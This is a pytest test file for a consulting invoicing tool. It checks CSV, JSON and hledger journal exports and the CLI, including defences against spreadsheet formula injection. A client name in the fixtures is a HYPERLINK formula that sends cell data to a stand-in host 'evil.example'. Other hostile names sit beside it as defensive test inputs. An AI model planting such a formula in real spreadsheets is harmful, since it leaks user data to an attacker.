"""Exports: invoices and time entries as CSV (no formula injection) and JSON, the
plain-text-accounting journal (checked by hledger when it is installed), and the CLI."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner

from hourdesk.app.cli.main import cli
from hourdesk.app.core.clock import FixedClock
from hourdesk.app.core.errors import Invalid, Refused
from hourdesk.app.desk.exporting import entry_rows, export, invoice_rows, ledger_invoices
from hourdesk.app.desk.facade import Desk, build_desk
from hourdesk.exports.ledger import (
    LedgerInvoice,
    LedgerPayment,
    account_part,
    clean_text,
    journal,
    transactions,
)
from hourdesk.exports.tables import safe_cell
from tests import keyring_service
from tests.builders import ready_settings

START = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
HLEDGER = shutil.which("hledger")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def open_desk(path: Path) -> Desk:
    settings = ready_settings(
        {
            "business": {"name": "Rivera IT Consulting"},
            "payment": {"bank_details": "First Coastal Bank\nAccount 4401"},
        }
    )
    return build_desk(path, clock=FixedClock(START), settings=settings)


def work(desk: Desk, ref: str, minutes: int, billable: bool | None = None) -> None:
    start = desk.clock.now()
    desk.clock.advance(minutes=minutes)
    desk.timer.log(ref, start=start, seconds=minutes * 60, billable=billable)
    desk.clock.advance(minutes=1)


def resolved(desk: Desk, client_id: int, subject: str, minutes: int = 60) -> str:
    t = desk.tickets.new(client_id=client_id, subject=subject, body="Please help.")
    desk.estimates.send(t.ref, hours="5")
    desk.estimates.approve(t.ref, text="Yes.")
    work(desk, t.ref, minutes)
    desk.completion.resolve(t.ref, "Done.")
    return t.ref


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    """Four numbers: an invoice, one with a credit note, and one voided the next day.

    2026-0001 Harbor Dental Clinic, $140.00 (1 h at $140)
    2026-0002 a client whose name is a spreadsheet formula, $280.00 (2 h)
    2026-0003 credit note against 2026-0002, -$30.00
    2026-0004 'Acme: West Division', $100.00, voided on 2026-03-03
    """
    desk = open_desk(tmp_path / "t.db")
    harbor = desk.clients.add(name="Harbor Dental Clinic", emails="a@harbor.example", rate="140")
    evil = desk.clients.add(name=FORMULA, emails="b@evil.example", rate="140")
    acme = desk.clients.add(name="Acme: West  Division", emails="c@acme.example", rate="100")
    resolved(desk, harbor.id, "Printer offline")
    free = desk.tickets.new(client_id=harbor.id, subject="-1+1 quick question", billable=False)
    desk.estimates.approve(free.ref, text="Thanks")
    work(desk, free.ref, 15)
    desk.invoicing.issue(harbor.id)
    resolved(desk, evil.id, "@SUM(A1:A9) Wi-Fi", 120)
    desk.invoicing.issue(evil.id)
    desk.invoicing.credit("2026-0002", "30.00", "Goodwill")
    resolved(desk, acme.id, "VPN")
    desk.invoicing.issue(acme.id)
    desk.clock.advance(days=1)
    desk.invoicing.void("2026-0004", "Wrong; client\nname")
    running = desk.tickets.new(client_id=harbor.id, subject="Running", billable=False)
    desk.timer.start(running.ref)
    yield desk
    desk.close()


# --- CSV and JSON ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1 207 555 0142", "'+1 207 555 0142"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTabbed", "'\tTabbed"),
        ("\rReturn", "'\rReturn"),
        ("Harbor = Dental", "Harbor = Dental"),
        ("a\x00b", "ab"),
        (Decimal("-30.00"), Decimal("-30.00")),
        (-1800, -1800),
        (True, "true"),
        (None, ""),
    ],
)
def test_safe_cell(value, cell) -> None:
    assert safe_cell(value) == cell


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_invoices_and_time_entries_as_csv(desk, tmp_path) -> None:
    written = export(desk, "csv", tmp_path / "out")
    assert [p.name for p in written] == ["invoices.csv", "time-entries.csv"]
    invoices = read_csv(written[0])
    assert list(invoices[0]) == [
        "number",
        "kind",
        "client",
        "issue_date",
        "due_date",
        "total",
        "status",
    ]
    assert [(r["number"], r["kind"], r["total"], r["status"]) for r in invoices] == [
        ("2026-0001", "invoice", "140.00", "issued"),
        ("2026-0002", "invoice", "280.00", "issued"),
        ("2026-0003", "credit_note", "-30.00", "issued"),  # a number stays a number
        ("2026-0004", "invoice", "100.00", "void"),
    ]
    assert invoices[1]["client"] == "'" + FORMULA  # text never runs as a formula
    assert invoices[0]["issue_date"] == "2026-03-02" and invoices[0]["due_date"] == "2026-03-16"

    entries = read_csv(written[1])
    assert list(entries[0]) == [
        "id",
        "ref",
        "client",
        "category",
        "start",
        "end",
        "seconds",
        "billable",
        "invoice",
    ]
    assert [(e["ref"], e["seconds"], e["billable"], e["invoice"]) for e in entries] == [
        ("HD-0001", "3600", "true", "2026-0001"),
        ("HD-0002", "900", "false", ""),
        ("HD-0003", "7200", "true", "2026-0002"),
        ("HD-0004", "3600", "true", ""),  # its invoice was voided: the time is released
    ]  # the running timer (HD-0005) is left out
    assert entries[0]["start"] == "2026-03-02T09:00:00Z"
    assert entries[0]["end"] == "2026-03-02T10:00:00Z"
    assert entries[2]["client"] == "'" + FORMULA
    for row in invoices + entries:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r"))


def test_one_csv_table_to_a_file_and_refusals(desk, tmp_path) -> None:
    (path,) = export(desk, "csv", tmp_path / "i.csv", table="invoices")
    assert path.read_text(encoding="utf-8").startswith("number,kind,client,")
    with pytest.raises(Refused, match="folder"):
        export(desk, "csv", tmp_path / "both.csv")
    with pytest.raises(Refused, match="folder"):
        export(desk, "csv", path)
    with pytest.raises(Invalid, match="after it ends"):
        export(desk, "json", tmp_path / "x.json", start=date(2026, 4, 1), end=date(2026, 3, 1))
    with pytest.raises(Invalid):
        export(desk, "ledger", tmp_path / "x.journal", table="invoices")
    with pytest.raises(Invalid):
        export(desk, "xlsx", tmp_path / "x.xlsx")
    blocker = tmp_path / "file"
    blocker.write_text("")
    with pytest.raises(Refused, match="not a folder"):
        export(desk, "json", blocker / "x.json")


def test_json_has_both_tables_with_exact_amounts(desk, tmp_path) -> None:
    (path,) = export(desk, "json", tmp_path / "export.json")
    text = path.read_text(encoding="utf-8")
    document = json.loads(text)
    assert text == json.dumps(document, indent=2, ensure_ascii=False) + "\n"  # streamed alike
    assert (document["from"], document["to"], document["currency"]) == (None, None, "USD")
    assert document["invoices"][2] == {
        "number": "2026-0003",
        "kind": "credit_note",
        "client": FORMULA,  # JSON carries the text as it is
        "issue_date": "2026-03-02",
        "due_date": "2026-03-02",
        "total": "-30.00",
        "status": "issued",
    }
    assert document["time_entries"][1] == {
        "id": 2,
        "ref": "HD-0002",
        "client": "Harbor Dental Clinic",
        "category": "implementation",
        "start": "2026-03-02T10:01:00Z",
        "end": "2026-03-02T10:16:00Z",
        "seconds": 900,
        "billable": False,
        "invoice": None,
    }
    (only,) = export(desk, "json", tmp_path / "e.json", table="entries")
    assert set(json.loads(only.read_text())) == {"from", "to", "currency", "time_entries"}
    (empty,) = export(desk, "json", tmp_path / "none.json", start=date(2027, 1, 1))
    text = empty.read_text(encoding="utf-8")
    assert text == json.dumps(json.loads(text), indent=2, ensure_ascii=False) + "\n"
    assert json.loads(text)["from"] == "2027-01-01" and json.loads(text)["invoices"] == []


def test_the_period_is_inclusive_local_days(desk) -> None:
    day = date(2026, 3, 2)
    assert len(list(invoice_rows(desk, day, day))) == 4
    assert list(invoice_rows(desk, date(2026, 3, 3))) == []
    assert len(list(entry_rows(desk, end=day))) == 4
    assert list(entry_rows(desk, start=date(2026, 3, 3))) == []


def test_invoices_are_exported_as_printed_after_a_rename(desk, tmp_path) -> None:
    desk.clients.update(1, name="Harbor Smiles Group")
    assert next(invoice_rows(desk)).client == "Harbor Dental Clinic"
    assert next(entry_rows(desk)).client == "Harbor Smiles Group"
    assert ledger_invoices(desk)[0].client == "Harbor Smiles Group"  # one account per client


# --- the journal ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name, part",
    [
        ("Acme: West  Division", "Acme- West Division"),
        ("  Spaced\t\tout  ", "Spaced out"),
        ("Evil\nNew\r\nline", "Evil New line"),
        ("semi;colon", "semi,colon"),
        ("zero\u200bwidth\u202eRTL", "zero width RTL"),
        (" : ", "-"),
        ("   ", "Unnamed client"),
        ("Zoë Ångström-Müller", "Zoë Ångström-Müller"),
    ],
)
def test_account_names_are_sanitised(name, part) -> None:
    assert account_part(name) == part


def postings(text: str) -> list[list[tuple[str, Decimal]]]:
    """Each transaction's postings, read back from the journal text."""
    found = []
    for block in text.split("\n\n"):
        if not block[:1].isdigit():
            continue
        lines = [line for line in block.splitlines() if line.startswith("    ") and "USD" in line]
        found.append(
            [
                (account.strip(), Decimal(value))
                for account, value in (line.rsplit("USD", 1) for line in lines)
            ]
        )
    return found


def test_the_journal_books_receivables_reverses_credits_and_voids(desk) -> None:
    text = journal(ledger_invoices(desk))
    assert "account Assets:Receivable:Acme- West Division" in text
    evil = "Assets:Receivable:" + account_part(FORMULA)
    assert evil == 'Assets:Receivable:=HYPERLINK("http-//evil.example/?"&A1,"Click")'
    assert f"account {evil}\n" in text
    assert "2026-03-02 * (2026-0001) Harbor Dental Clinic | Invoice 2026-0001\n" in text
    assert "| Credit note 2026-0003 for invoice 2026-0002\n" in text
    assert "2026-03-03 * (2026-0004) Acme- West Division | Void of invoice 2026-0004" not in text
    assert "2026-03-03 * (2026-0004) Acme: West Division | Void of invoice 2026-0004" in text
    assert "    ; reason: Wrong, client name\n" in text
    booked = postings(text)
    assert len(booked) == 5  # four numbers, and the void's reversal
    for transaction in booked:
        assert sum(amount for _, amount in transaction) == 0
    assert booked[0] == [
        ("Assets:Receivable:Harbor Dental Clinic", Decimal("140.00")),
        ("Income:Consulting", Decimal("-140.00")),
    ]
    assert booked[2] == [
        (evil, Decimal("-30.00")),
        ("Income:Consulting", Decimal("30.00")),
    ]
    assert booked[4] == [
        ("Assets:Receivable:Acme- West Division", Decimal("-100.00")),
        ("Income:Consulting", Decimal("100.00")),
    ]
    assert [t.day for t in transactions(ledger_invoices(desk), start=date(2026, 3, 3))] == [
        date(2026, 3, 3)
    ]


def test_payments_are_one_more_list() -> None:
    invoice = LedgerInvoice("2026-0001", "invoice", "Harbor", date(2026, 3, 2), 14000)
    paid = [
        LedgerPayment("2026-0001", "Harbor", date(2026, 3, 10), 10000, "bank", "REF 1"),
        LedgerPayment("2026-0001", "Harbor", date(2026, 3, 12), 4000, "paypal"),
    ]
    text = journal([invoice], paid)
    assert "2026-03-10 * (2026-0001) Harbor | Payment for invoice 2026-0001" in text
    assert "    ; reference: REF 1\n" in text
    booked = postings(text)
    assert booked[1] == [
        ("Assets:Bank", Decimal("100.00")),
        ("Assets:Receivable:Harbor", Decimal("-100.00")),
    ]
    assert booked[2][0] == ("Assets:PayPal", Decimal("40.00"))
    receivable = sum(a for t in booked for acc, a in t if acc == "Assets:Receivable:Harbor")
    assert receivable == 0


def test_clean_text_keeps_descriptions_on_one_line() -> None:
    assert clean_text("a\nb\r\nc\u2028d ; e") == "a b c d , e"


def hledger(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([HLEDGER, *args], capture_output=True, text=True, timeout=60)


@pytest.mark.skipif(HLEDGER is None, reason="hledger is not installed")
def test_hledger_accepts_the_journal_with_hostile_client_names(desk, tmp_path) -> None:
    hostile = [
        "Evil\nNew  line: Co;  (x) [y] @ = #",
        "\t-1+1",
        "  Leading and trailing  ",
        "Zoë Ångström-Müller ≤ 2",
        "}{)(\u202e",
    ]
    for client_id, name in zip((1, 3), hostile[:2], strict=True):
        desk.db.conn.execute("UPDATE clients SET name = ? WHERE id = ?", [name, client_id])
    invoices = ledger_invoices(desk) + [
        LedgerInvoice(f"2026-01{i:02d}", "invoice", name, date(2026, 3, 4), 1234)
        for i, name in enumerate(hostile)
    ]
    payments = [LedgerPayment("2026-0100", hostile[0], date(2026, 3, 5), 1234, "paypal", "x\ny")]
    path = tmp_path / "hourdesk.journal"
    path.write_text(journal(invoices, payments), encoding="utf-8")

    checked = hledger("-f", str(path), "check")
    assert checked.returncode == 0, checked.stderr
    strict = hledger("-f", str(path), "check", "--strict")  # accounts and commodity declared
    assert strict.returncode == 0, strict.stderr
    balances = hledger("-f", str(path), "bal", "--flat", "--no-total", "-O", "csv")
    assert balances.returncode == 0, balances.stderr
    rows = {r[0]: r[1] for r in csv.reader(io.StringIO(balances.stdout)) if r}
    # 140 + 280 - 30 (+ 100 - 100 voided) + 5 x 12.34
    assert rows["Income:Consulting"] == "USD -451.70"
    assert rows["Assets:PayPal"] == "USD 12.34"
    assert rows["Assets:Receivable:Evil New line- Co, (x) [y] @ = #"] == "USD 140.00"


# --- the CLI --------------------------------------------------------------------------------


def test_the_export_command(desk, tmp_path) -> None:
    db = desk.db.execute("PRAGMA database_list").fetchone()[2]
    runner = CliRunner()
    env = {"HOURDESK_NOW": "2026-03-04T12:00:00Z"}

    done = runner.invoke(cli, ["--db", db, "export", "csv", "-o", str(tmp_path / "c")], env=env)
    assert done.exit_code == 0, done.output
    assert done.output.splitlines() == [
        str(tmp_path / "c" / "invoices.csv"),
        str(tmp_path / "c" / "time-entries.csv"),
    ]
    out = tmp_path / "j.journal"
    args = ["export", "ledger", "--from", "2026-03-03", "--to", "2026-03-31", "-o", str(out)]
    done = runner.invoke(cli, ["--db", db, *args], env=env)
    assert done.exit_code == 0, done.output
    text = out.read_text(encoding="utf-8")
    assert "from 2026-03-03 to 2026-03-31" in text and text.count(" * (") == 1
    args = ["export", "json", "--table", "invoices", "--to", "2026-03-02", "-o", str(out)]
    done = runner.invoke(cli, [*args, "--db", db], env=env)
    assert done.exit_code == 0, done.output
    assert len(json.loads(out.read_text())["invoices"]) == 4

    bad = ["--db", db, "export", "json", "--from", "2026-04-01", "--to", "2026-03-01"]
    done = runner.invoke(cli, [*bad, "-o", str(out)], env=env)
    assert done.exit_code == 1 and "after it ends" in done.output
    done = runner.invoke(cli, ["--db", db, "export", "csv", "-o", str(tmp_path / "a.csv")])
    assert done.exit_code == 1 and "--table" in done.output
    done = runner.invoke(cli, ["--db", db, "export", "pdf", "-o", str(out)])
    assert done.exit_code == 2


def test_hledger_balances_match_the_receivables(desk, cli, tmp_path) -> None:
    """Partial payments, a credit note and a void: what `hledger bal` says each client
    still owes is what `hourdesk receivables` says."""
    if HLEDGER is None:
        keyring_service.skip_or_fail("hledger is not installed (apt-get install hledger)")
    db = desk.db.execute("PRAGMA database_list").fetchone()[2]
    desk.close()
    env = {"HOURDESK_NOW": "2026-03-20T12:00:00Z"}
    for number, amount, method, day in [
        ("2026-0001", "100.00", "bank", "2026-03-05"),
        ("2026-0002", "50.00", "paypal", "2026-03-06"),
        ("2026-0002", "60.00", "bank", "2026-03-09"),
    ]:
        paid = cli.run(
            "--db", db, "pay", number, "--amount", amount, "--method", method, "--date", day,
            env=env,
        )  # fmt: skip
        assert paid.returncode == 0, paid.stderr
    path = tmp_path / "books.journal"
    exported = cli.run("--db", db, "export", "ledger", "-o", path, env=env)
    assert exported.returncode == 0, exported.stderr
    owed = json.loads(cli.run("--db", db, "receivables", "--json", env=env).stdout)

    assert hledger("-f", str(path), "check").returncode == 0
    checked = hledger("-f", str(path), "check", "--strict")
    assert checked.returncode == 0, checked.stderr
    balances = hledger("-f", str(path), "bal", "--flat", "--no-total", "-O", "csv", "Receivable")
    assert balances.returncode == 0, balances.stderr
    books = {
        account: Decimal(value.removeprefix("USD "))
        for account, value in csv.reader(io.StringIO(balances.stdout))
        if account.startswith("Assets:")
    }
    expected = {
        f"Assets:Receivable:{account_part(c['name'])}": Decimal(c["total"]) for c in owed["clients"]
    }
    assert expected == {
        "Assets:Receivable:Harbor Dental Clinic": Decimal("40.00"),
        'Assets:Receivable:=HYPERLINK("http-//evil.example/?"&A1,"Click")': Decimal("140.00"),
    }
    assert {a: v for a, v in books.items() if v} == expected
    assert sum(books.values()) == Decimal(owed["total"])
    cash = hledger("-f", str(path), "bal", "--flat", "--no-total", "-O", "csv", "Bank|PayPal")
    assert "USD 160.00" in cash.stdout and "USD 50.00" in cash.stdout
